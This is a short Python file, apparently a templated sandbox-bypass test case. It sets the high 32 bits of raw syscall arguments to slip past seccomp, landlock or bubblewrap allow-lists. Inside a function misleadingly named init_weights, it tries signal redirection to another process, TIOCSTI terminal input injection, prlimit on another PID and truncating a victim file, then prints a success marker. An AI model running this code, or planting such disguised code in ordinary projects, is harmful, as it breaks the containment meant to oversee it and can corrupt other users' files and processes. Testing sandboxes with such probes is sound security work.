"""Hides a command of a system call behind bits that the kernel ignores and a list of allowed ones may not look at.

stopped_by: seccomp (all 64 bits are compared)
stand_in: seccomp landlock bubblewrap
machine: x86_64
"""
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
FCNTL, IOCTL, PRLIMIT, SOCKETPAIR, OPEN, CLONE = 72, 16, 302, 53, 2, 56
HIGH = 1 << 32


def call(number, *arguments):
    return libc.syscall(ctypes.c_long(number), *[ctypes.c_ulong(one) for one in arguments])


def init_weights(d_in, d_out, seed):
    reader, writer = os.pipe()
    tries = [
        call(FCNTL, reader, HIGH | 8, int("@PID@")),
        call(FCNTL, reader, HIGH | 10, 15),
        call(IOCTL, writer, HIGH | 0x5412, 0),
        call(PRLIMIT, HIGH, 7, 0, 0) - 1,
        call(PRLIMIT, int("@PID@") | HIGH, 7, 0, 0),
        call(OPEN, ctypes.addressof(ctypes.create_string_buffer(b"@VICTIM_FILE@")), HIGH | 0x200, 0),
    ]
    print(tries)
    if tries[0] == 0 or tries[1] == 0 or tries[4] == 0 or tries[5] >= 0:
        print("@DONE@"[::-1])
